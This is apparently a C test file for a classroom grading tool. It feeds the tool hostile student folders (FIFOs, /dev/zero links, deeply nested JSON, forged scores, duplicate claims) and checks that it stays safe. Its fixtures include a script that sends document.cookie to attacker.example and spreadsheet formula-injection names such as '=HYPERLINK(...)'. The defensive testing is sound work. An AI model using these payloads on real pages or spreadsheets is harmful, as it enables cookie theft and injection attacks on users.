/* test-class-hostile.c
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <fcntl.h>
#include <glib/gstdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include "viva-class-results.h"
#include "viva-core.h"
#include "viva-test-cli.h"
#include "viva-test-csv.h"
#include "viva-test-util.h"

/* The report folder is written by students, so it is hostile input to the
 * teacher's PC: one real report (a defense through the real viva-cli and
 * worker) beside a FIFO named x.json, a link to /dev/zero named z.json,
 * links that loop, a report nested 300,000 deep, a 100 MB file, the
 * student's own HTML page with a script, names that are formulas in a
 * spreadsheet whose separator is `;`, and two reports claiming one
 * student. What the teacher must see: `viva-cli class collect` finishes,
 * every such file is a row flagged `unreadable` saying why, nothing of the
 * student's HTML reaches the class page, no cell is a formula, and the
 * gradebook takes no score from a disputed claim. */

static char *classroom;
static char *good_json;     /* Ana's real report */

static char *
read_text (const char *path)
{
  g_autofree char *text = NULL;

  g_assert_true (g_file_get_contents (path, &text, NULL, NULL));
  return g_steal_pointer (&text);
}

static JsonNode *
read_json (const char *path)
{
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(GError) error = NULL;

  json_parser_load_from_file (parser, path, &error);
  g_assert_no_error (error);
  return json_node_copy (json_parser_get_root (parser));
}

static void
write_json (const char *path,
            JsonNode   *node)
{
  g_autofree char *text = json_to_string (node, TRUE);

  g_assert_true (g_file_set_contents (path, text, -1, NULL));
}

static char *
reference_code (void)
{
  g_autofree char *pack_path = g_build_filename (g_getenv ("VIVA_SOURCE_ROOT"), "data", "packs", "intro-ai.json", NULL);
  g_autoptr(JsonNode) pack = read_json (pack_path);
  JsonArray *problems = json_object_get_array_member (json_node_get_object (pack), "problems");

  for (guint i = 0; i < json_array_get_length (problems); i++)
    {
      JsonObject *problem = json_array_get_object_element (problems, i);

      if (g_str_equal (json_object_get_string_member (problem, "id"), "knn"))
        return g_strdup (json_object_get_string_member (problem, "reference_solution"));
    }

  g_assert_not_reached ();
}

static void
setup_classroom (void)
{
  g_autofree char *pack_path = g_build_filename (g_getenv ("VIVA_SOURCE_ROOT"), "data", "packs", "intro-ai.json", NULL);
  g_autofree char *code_path = NULL;
  g_autofree char *answers = NULL;
  g_autofree char *sessions = NULL;
  g_autofree char *code = reference_code ();
  VivaTestCliRun run = { 0 };
  JsonObject *verdict;

  classroom = g_dir_make_tmp ("viva-class-hostile-XXXXXX", NULL);
  code_path = g_build_filename (classroom, "code.py", NULL);
  answers = g_build_filename (classroom, "answers.json", NULL);
  sessions = g_build_filename (classroom, "sessions", NULL);
  good_json = g_build_filename (classroom, "Ana_Lima-s001-knn.json", NULL);
  g_assert_true (g_file_set_contents (code_path, code, -1, NULL));
  g_assert_true (g_file_set_contents (answers, "[\"I sort by distance and count the votes.\", \"'a'\"]", -1, NULL));

  {
    const char *args[] = { "defend", "--pack", pack_path, "--problem", "knn", "--code", code_path,
                           "--answers", answers, "--offline", "--session-dir", sessions,
                           "--student-name", "Ana Lima", "--student-id", "s001", "--json", NULL };
    viva_test_cli_run (&run, NULL, args);
    g_assert_cmpint (run.status, ==, 0);
    verdict = g_ptr_array_index (run.events, run.events->len - 1);
    g_assert_cmpstr (json_object_get_string_member (verdict, "event"), ==, "verdict");
  }
  {
    const char *args[] = { "report", json_object_get_string_member (verdict, "session"), "--session-dir", sessions,
                           "--json", good_json, NULL };
    VivaTestCliRun report = { 0 };

    viva_test_cli_run (&report, NULL, args);
    g_assert_cmpint (report.status, ==, 0);
    viva_test_cli_run_clear (&report);
  }
  viva_test_cli_run_clear (&run);
}

/* A copy of Ana's report in @folder, as @file, edited by @name / @id
 * (NULL: as it was) and given its own session. */
static char *
copy_report (const char *folder,
             const char *file,
             const char *name,
             const char *id,
             const char *session)
{
  g_autoptr(JsonNode) report = read_json (good_json);
  JsonObject *root = json_node_get_object (report);
  JsonObject *student = json_object_get_object_member (root, "student");
  char *path = g_build_filename (folder, file, NULL);

  if (name != NULL)
    json_object_set_string_member (student, "name", name);
  if (id != NULL)
    json_object_set_string_member (student, "id", id);
  if (session != NULL)
    json_object_set_string_member (root, "session", session);
  write_json (path, report);

  return path;
}

static char *
make_folder (const char *name)
{
  char *folder = g_build_filename (classroom, name, NULL);

  g_assert_cmpint (g_mkdir (folder, 0755), ==, 0);
  return folder;
}

static JsonObject *
row_for (VivaTestCliRun *run,
         const char     *file_suffix)
{
  for (guint i = 0; i < run->events->len; i++)
    {
      JsonObject *event = g_ptr_array_index (run->events, i);

      if (g_str_equal (json_object_get_string_member (event, "event"), "row") &&
          g_str_has_suffix (json_object_get_string_member (event, "file"), file_suffix))
        return event;
    }

  g_error ("no row for %s", file_suffix);
}

static guint
count_rows (VivaTestCliRun *run)
{
  guint n = 0;

  for (guint i = 0; i < run->events->len; i++)
    n += g_str_equal (json_object_get_string_member (g_ptr_array_index (run->events, i), "event"), "row");

  return n;
}

static gboolean
row_has_flag (JsonObject *row,
              const char *flag)
{
  JsonArray *flags = json_object_get_array_member (row, "flags");

  for (guint i = 0; i < json_array_get_length (flags); i++)
    if (g_str_equal (json_array_get_string_element (flags, i), flag))
      return TRUE;

  return FALSE;
}

static void
assert_unreadable (VivaTestCliRun *run,
                   const char     *file,
                   const char     *why)
{
  JsonObject *row = row_for (run, file);

  g_assert_true (row_has_flag (row, "unreadable"));
  g_assert_cmpstr (json_object_get_string_member (row, "status"), ==, "unreadable");
  g_assert_true (json_object_has_member (row, "note"));
  if (strstr (json_object_get_string_member (row, "note"), why) == NULL)
    g_error ("%s: the note “%s” does not say “%s”", file, json_object_get_string_member (row, "note"), why);
}

static char *
deep_json (guint depth)
{
  GString *text = g_string_new ("{\"format\": \"viva-report/1\", \"student\": {\"name\": \"Deep\"}, \"x\": ");

  for (guint i = 0; i < depth; i++)
    g_string_append_c (text, '[');
  for (guint i = 0; i < depth; i++)
    g_string_append_c (text, ']');
  g_string_append (text, "}");

  return g_string_free (text, FALSE);
}

/* The folder a student could leave on a lab share. */
static char *
make_hostile_folder (void)
{
  char *folder = make_folder ("hostile");
  g_autofree char *good = copy_report (folder, "good.json", NULL, NULL, NULL);
  g_autofree char *fifo = g_build_filename (folder, "x.json", NULL);
  g_autofree char *zero = g_build_filename (folder, "z.json", NULL);
  g_autofree char *self_link = g_build_filename (folder, "again", NULL);
  g_autofree char *sub = g_build_filename (folder, "a", NULL);
  g_autofree char *up = g_build_filename (sub, "up", NULL);
  g_autofree char *loop = g_build_filename (folder, "loop.json", NULL);
  g_autofree char *deep = g_build_filename (folder, "deep.json", NULL);
  g_autofree char *huge = g_build_filename (folder, "huge.json", NULL);
  g_autofree char *text = deep_json (300000);
  int fd;

  g_assert_cmpint (mkfifo (fifo, 0644), ==, 0);
  g_assert_cmpint (symlink ("/dev/zero", zero), ==, 0);
  g_assert_cmpint (symlink (".", self_link), ==, 0);
  g_assert_cmpint (g_mkdir (sub, 0755), ==, 0);
  g_assert_cmpint (symlink ("..", up), ==, 0);
  g_assert_cmpint (symlink ("loop.json", loop), ==, 0);
  g_assert_true (g_file_set_contents (deep, text, -1, NULL));
  /* 100 MB, sparse: no disk used, and a reader that trusted it would
   * hold it all. */
  fd = g_open (huge, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  g_assert_cmpint (fd, >=, 0);
  g_assert_cmpint (ftruncate (fd, 100 * 1000 * 1000), ==, 0);
  close (fd);

  return folder;
}

static void
test_hostile_folder (void)
{
  g_autofree char *folder = make_hostile_folder ();
  VivaTestCliRun run = { 0 };
  const char *args[] = { "class", "collect", "--json", folder, "/dev/zero", NULL };
  JsonObject *summary, *good;

  /* It finishes (a FIFO, /dev/zero or a loop would hang it: the test's
   * timeout would end it), and says some reports could not be read. */
  viva_test_cli_run (&run, NULL, args);
  g_assert_cmpint (run.status, ==, 1);

  /* good, x, z, loop, deep, huge, and /dev/zero named: the links into
   * folders were not followed, so nothing is listed twice. */
  g_assert_cmpuint (count_rows (&run), ==, 7);
  summary = g_ptr_array_index (run.events, run.events->len - 1);
  g_assert_cmpstr (json_object_get_string_member (summary, "event"), ==, "summary");
  g_assert_cmpint (json_object_get_int_member (summary, "unreadable"), ==, 6);
  g_assert_cmpint (json_object_get_int_member (summary, "students"), ==, 1);

  good = row_for (&run, "good.json");
  g_assert_cmpuint (json_array_get_length (json_object_get_array_member (good, "flags")), ==, 0);
  g_assert_cmpstr (json_object_get_string_member (good, "student_name"), ==, "Ana Lima");

  assert_unreadable (&run, "x.json", "not a regular file");
  assert_unreadable (&run, "z.json", "is a link");
  assert_unreadable (&run, "loop.json", "is a link");
  assert_unreadable (&run, "deep.json", "nests");
  assert_unreadable (&run, "huge.json", "larger than any report");
  assert_unreadable (&run, "/dev/zero", "not a regular file");

  viva_test_cli_run_clear (&run);
  viva_test_remove_tree (folder);
}

/* The same through the core, in this process: json-glib would overflow
 * this stack on the deep file, and the FIFO would block this thread. */
static void
test_hostile_core (void)
{
  g_autofree char *folder = make_hostile_folder ();
  g_autofree char *fifo = g_build_filename (folder, "x.json", NULL);
  g_autofree char *deep = deep_json (300000);
  g_autoptr(VivaClassResults) results = viva_class_results_new ();
  g_autoptr(VivaClassReport) row = NULL;
  g_autoptr(GAsyncResult) result = NULL;
  g_autoptr(GError) error = NULL;
  const char *paths[] = { folder, NULL };

  row = viva_class_report_new_from_file (fifo);
  g_assert_false (viva_class_report_get_readable (row));
  g_assert_nonnull (strstr (viva_class_report_get_note (row), "not a regular file"));
  g_clear_object (&row);

  row = viva_class_report_new_from_data ("deep.json", deep, -1);
  g_assert_false (viva_class_report_get_readable (row));
  g_assert_true (viva_class_report_has_flag (row, VIVA_CLASS_FLAG_UNREADABLE));
  g_assert_nonnull (strstr (viva_class_report_get_note (row), "nests"));

  viva_class_results_collect_async (results, paths, NULL, viva_test_store_result, &result);
  viva_test_run_until_result (&result);
  g_assert_true (viva_class_results_collect_finish (results, result, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (g_list_model_get_n_items (viva_class_results_get_reports (results)), ==, 6);
  g_assert_cmpuint (viva_class_results_count_unreadable (results), ==, 5);

  viva_test_remove_tree (folder);
}

/* The page a teacher opens from the class shows the teacher's scores and
 * notes beside Viva's, from the teacher's data only: a `teacher` member
 * the student wrote into the report shows nowhere. */
static void
test_teacher_on_page (void)
{
  g_autofree char *folder = make_folder ("teacher-page");
  g_autofree char *json = copy_report (folder, "Ana_Lima-s001-knn.json", NULL, NULL, NULL);
  g_autoptr(JsonNode) report = read_json (json);
  JsonObject *root = json_node_get_object (report);
  JsonArray *items = json_object_get_array_member (json_object_get_object_member (root, "verdict"), "items");
  g_autoptr(JsonObject) forged = json_object_new ();
  g_autoptr(JsonObject) forged_score = json_object_new ();
  g_autoptr(VivaClassReport) row = NULL;
  g_autoptr(VivaTeacherScores) scores = viva_teacher_scores_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *before = NULL;
  g_autofree char *after = NULL;
  g_autofree char *item_id = NULL;
  g_autofree char *item_cell = NULL;
  const VivaExamItem *item;

  g_assert_cmpuint (json_array_get_length (items), >, 0);
  json_object_set_double_member (forged, "points", 99);
  json_object_set_string_member (forged, "note", "FORGED BY THE STUDENT");
  json_object_set_object_member (json_array_get_object_element (items, 0), "teacher", g_steal_pointer (&forged));
  json_object_set_double_member (forged_score, "score", 100);
  json_object_set_object_member (root, "teacher", g_steal_pointer (&forged_score));
  write_json (json, report);

  row = viva_class_report_new_from_file (json);
  before = viva_class_report_render_html (row, &error);
  g_assert_no_error (error);
  g_assert_null (strstr (before, "FORGED"));
  g_assert_null (strstr (before, "(teacher:"));
  g_assert_null (strstr (before, "The teacher’s score"));

  item = g_ptr_array_index (viva_class_report_get_items (row), 0);
  item_id = g_strdup (item->id);
  viva_teacher_scores_set (scores, viva_class_report_get_student_id (row), viva_class_report_get_problem_id (row),
                           viva_class_report_get_session (row), item_id, 3, VIVA_CALIBRATION_UNKNOWN,
                           "Knows why, said it badly");
  viva_class_report_apply_teacher (row, scores);
  after = viva_class_report_render_html (row, &error);
  g_assert_no_error (error);
  g_assert_null (strstr (after, "FORGED"));
  item_cell = g_strdup_printf ("%.4g (teacher: 3) / %.4g", item->points, item->max_points);
  g_assert_nonnull (strstr (after, item_cell));
  g_assert_nonnull (strstr (after, "the teacher: Knows why, said it badly"));
  g_assert_nonnull (strstr (after, "The teacher’s score: "));

  viva_test_remove_tree (folder);
}

/* The student's own page beside the report says "pass" with a script;
 * the class page and the row show the page made from the JSON. */
static void
test_student_html (void)
{
  g_autofree char *folder = make_folder ("html");
  g_autofree char *json = copy_report (folder, "Ana_Lima-s001-knn.json", NULL, NULL, NULL);
  g_autofree char *forged = g_build_filename (folder, "Ana_Lima-s001-knn.html", NULL);
  g_autofree char *class_html = g_build_filename (classroom, "class.html", NULL);
  g_autofree char *page = NULL;
  g_autofree char *html = NULL;
  g_autoptr(VivaClassReport) row = NULL;
  g_autoptr(GError) error = NULL;
  VivaTestCliRun run = { 0 };
  const char *args[] = { "class", "collect", "--html", class_html, folder, NULL };

  g_assert_true (g_file_set_contents (forged, "<html><body><h1>Verdict: PASS 100/100</h1>"
                                      "<script>fetch('http://attacker.example/?c='+document.cookie)</script></body></html>", -1, NULL));

  viva_test_cli_run (&run, NULL, args);
  g_assert_cmpint (run.status, ==, 0);
  html = read_text (class_html);
  /* Nothing of the student's page, no link to it, no script at all. */
  g_assert_null (strstr (html, "PASS 100/100"));
  g_assert_null (strstr (html, "attacker.example"));
  g_assert_null (strstr (html, "Ana_Lima-s001-knn.html"));
  g_assert_null (strstr (html, "<script"));
  g_assert_nonnull (strstr (html, "Content-Security-Policy\" content=\"default-src 'none'"));
  /* The report's own page, made from the JSON, in a frame that runs no
   * script; its markup escaped into the attribute. */
  g_assert_nonnull (strstr (html, "<a href=\"#report-0\">"));
  g_assert_nonnull (strstr (html, "<section id=\"report-0\">"));
  g_assert_nonnull (strstr (html, "<iframe sandbox=\"\""));
  g_assert_nonnull (strstr (html, "srcdoc=\"&lt;!DOCTYPE html&gt;"));
  g_assert_nonnull (strstr (html, "Content-Security-Policy&quot; content=&quot;default-src &apos;none&apos;"));

  /* The window's export makes the same page, the reports' pages in a
   * thread. */
  {
    g_autoptr(VivaClassResults) results = viva_class_results_new ();
    g_autoptr(GAsyncResult) result = NULL;
    g_autofree char *exported = NULL;
    const char *paths[] = { folder, NULL };

    viva_class_results_collect_async (results, paths, NULL, viva_test_store_result, &result);
    viva_test_run_until_result (&result);
    g_assert_true (viva_class_results_collect_finish (results, result, &error));
    g_clear_object (&result);
    viva_class_results_to_html_async (results, NULL, viva_test_store_result, &result);
    viva_test_run_until_result (&result);
    exported = viva_class_results_to_html_finish (results, result, &error);
    g_assert_no_error (error);
    g_assert_nonnull (strstr (exported, "<iframe sandbox=\"\""));
    g_assert_null (strstr (exported, "PASS 100/100"));
    g_assert_cmpstr (exported, ==, html);
  }

  /* The row (as the Class Results window opens it): the page made from
   * the JSON. */
  row = viva_class_report_new_from_file (json);
  page = viva_class_report_render_html (row, &error);
  g_assert_no_error (error);
  g_assert_nonnull (strstr (page, "Ana Lima"));
  g_assert_nonnull (strstr (page, "Content-Security-Policy"));
  g_assert_null (strstr (page, "PASS 100/100"));
  g_assert_null (strstr (page, "<script"));

  viva_test_cli_run_clear (&run);
  viva_test_remove_tree (folder);
  g_unlink (class_html);
}

/* The cells a spreadsheet splitting on @separator reads, quotes honoured
 * (as Calc, Excel and Sheets import) or not (a paste of the text). */
static GPtrArray *
split_cells (const char *csv,
             char        separator,
             gboolean    honour_quotes)
{
  GPtrArray *cells = g_ptr_array_new_with_free_func (g_free);
  g_autoptr(GString) cell = g_string_new (NULL);
  gboolean quoted = FALSE;

  for (const char *p = csv; *p; p++)
    {
      if (honour_quotes && *p == '"')
        {
          if (quoted && p[1] == '"')
            g_string_append_c (cell, *p++);
          else
            quoted = !quoted;
        }
      else if (!quoted && (*p == separator || *p == '\r' || *p == '\n'))
        {
          g_ptr_array_add (cells, g_strdup (cell->str));
          g_string_truncate (cell, 0);
        }
      else
        g_string_append_c (cell, *p);
    }
  g_ptr_array_add (cells, g_strdup (cell->str));

  return cells;
}

static void
assert_no_formula (const char *csv)
{
  const char separators[] = { ',', ';', '\t' };

  for (guint s = 0; s < G_N_ELEMENTS (separators); s++)
    for (guint q = 0; q < 2; q++)
      {
        g_autoptr(GPtrArray) cells = split_cells (csv, separators[s], q == 0);

        for (guint i = 0; i < cells->len; i++)
          {
            const char *cell = g_ptr_array_index (cells, i);

            /* What a spreadsheet strips before it looks: spaces, and
             * the quote of a quoted cell read as text. */
            while (*cell == ' ' || (q == 1 && *cell == '"'))
              cell++;
            if (strchr ("=+-@", *cell) != NULL && *cell != '\0')
              g_error ("split on '%c' (%s quotes), the cell “%s” is a formula", separators[s],
                       q == 0 ? "honouring" : "ignoring", cell);
          }
      }
}

static void
test_formula_names (void)
{
  g_autofree char *folder = make_folder ("formulas");
  g_autofree char *csv_path = g_build_filename (classroom, "formulas.csv", NULL);
  g_autofree char *gradebook_path = g_build_filename (classroom, "formulas-gradebook.csv", NULL);
  g_autofree char *csv = NULL;
  g_autofree char *gradebook = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  VivaTestCliRun run = { 0 };
  const char *args[] = { "class", "collect", "--csv", csv_path, "--gradebook-csv", gradebook_path, folder, NULL };
  const struct { const char *name; const char *id; const char *cell; } students[] = {
    { "Eve;=1+2*3", "s101", "Eve;'=1+2*3" },
    { "=HYPERLINK(\"http://x\")", "s102", "'=HYPERLINK(\"http://x\")" },
    { "  +1+1", "s103", "  '+1+1" },
    { "Tab\t-2", "s104", "Tab\t'-2" },
    { "Bob, @SUM(A1)", "s105", "Bob, '@SUM(A1)" },
    { "Jean-Luc O'Neil", "s106", "Jean-Luc O'Neil" },
    { "Line\n=1", "s107", "Line\n'=1" },
    { "trailing ", "s108", "trailing " },
  };

  for (guint i = 0; i < G_N_ELEMENTS (students); i++)
    {
      g_autofree char *file = g_strdup_printf ("%s.json", students[i].id);
      g_autofree char *session = g_strdup_printf ("session-%u", i);
      g_autofree char *path = copy_report (folder, file, students[i].name, students[i].id, session);
    }

  viva_test_cli_run (&run, NULL, args);
  g_assert_cmpint (run.status, ==, 0);

  /* Read as RFC 4180 with `,`, each name is itself, a `'` before every
   * formula start. */
  csv = read_text (csv_path);
  rows = viva_test_parse_csv (csv);
  g_assert_cmpuint (rows->len, ==, G_N_ELEMENTS (students) + 1);
  for (guint i = 0; i < G_N_ELEMENTS (students); i++)
    {
      gboolean found = FALSE;

      for (guint r = 1; r < rows->len; r++)
        if (g_str_equal (viva_test_csv_cell (rows, g_ptr_array_index (rows, r), "student_id"), students[i].id))
          {
            g_assert_cmpstr (viva_test_csv_cell (rows, g_ptr_array_index (rows, r), "student_name"), ==, students[i].cell);
            found = TRUE;
          }
      g_assert_true (found);
    }
  /* Read with `;` or a tab as the separator, quotes honoured or not: no
   * cell is a formula. */
  assert_no_formula (csv);

  gradebook = read_text (gradebook_path);
  g_assert_nonnull (strstr (gradebook, "\"Eve;'=1+2*3\""));
  assert_no_formula (gradebook);

  viva_test_cli_run_clear (&run);
  viva_test_remove_tree (folder);
}

/* Two reports claim Ana's knn (a classmate's work handed in under her id,
 * say); Binh's is his own. */
static void
test_duplicate_claims (void)
{
  g_autofree char *folder = make_folder ("claims");
  g_autofree char *gradebook_path = g_build_filename (classroom, "claims-gradebook.csv", NULL);
  g_autofree char *first = copy_report (folder, "ana-1.json", NULL, NULL, "session-ana-1");
  g_autofree char *second = copy_report (folder, "ana-2.json", "Ana Lima", "s001", "session-ana-2");
  g_autofree char *binh = copy_report (folder, "binh.json", "Binh Tran", "s002", "session-binh");
  g_autofree char *gradebook = NULL;
  g_autoptr(GPtrArray) book = NULL;
  VivaTestCliRun run = { 0 };
  const char *args[] = { "class", "collect", "--json", "--gradebook-csv", gradebook_path, folder, NULL };
  JsonObject *row;

  viva_test_cli_run (&run, NULL, args);
  g_assert_cmpint (run.status, ==, 0);

  row = row_for (&run, "ana-1.json");
  g_assert_true (row_has_flag (row, "duplicate-claim"));
  g_assert_nonnull (strstr (json_object_get_string_member (row, "note"), "ana-2.json"));
  row = row_for (&run, "ana-2.json");
  g_assert_true (row_has_flag (row, "duplicate-claim"));
  g_assert_nonnull (strstr (json_object_get_string_member (row, "note"), "ana-1.json"));
  row = row_for (&run, "binh.json");
  g_assert_false (row_has_flag (row, "duplicate-claim"));

  /* Neither of Ana's is taken over the other: her cell stays empty until
   * the teacher keeps one; Binh's score is there. */
  gradebook = read_text (gradebook_path);
  book = viva_test_parse_csv (gradebook);
  g_assert_cmpuint (book->len, ==, 3);
  for (guint i = 1; i < book->len; i++)
    {
      GPtrArray *cells = g_ptr_array_index (book, i);
      const char *id = viva_test_csv_cell (book, cells, "SIS User ID");
      const char *score = viva_test_csv_cell (book, cells, "k-nearest neighbours (knn)");

      if (g_str_equal (id, "s001"))
        g_assert_cmpstr (score, ==, "");
      else
        g_assert_cmpstr (score, !=, "");
    }

  viva_test_cli_run_clear (&run);
  viva_test_remove_tree (folder);
}

int
main (int   argc,
      char *argv[])
{
  int status;

  viva_core_init ();
  g_test_init (&argc, &argv, NULL);

  setup_classroom ();

  g_test_add_func ("/viva/class/hostile/folder", test_hostile_folder);
  g_test_add_func ("/viva/class/hostile/core", test_hostile_core);
  g_test_add_func ("/viva/class/hostile/student-html", test_student_html);
  g_test_add_func ("/viva/class/hostile/teacher-on-page", test_teacher_on_page);
  g_test_add_func ("/viva/class/hostile/formula-names", test_formula_names);
  g_test_add_func ("/viva/class/hostile/duplicate-claims", test_duplicate_claims);

  status = g_test_run ();
  viva_test_remove_tree (classroom);

  return status;
}
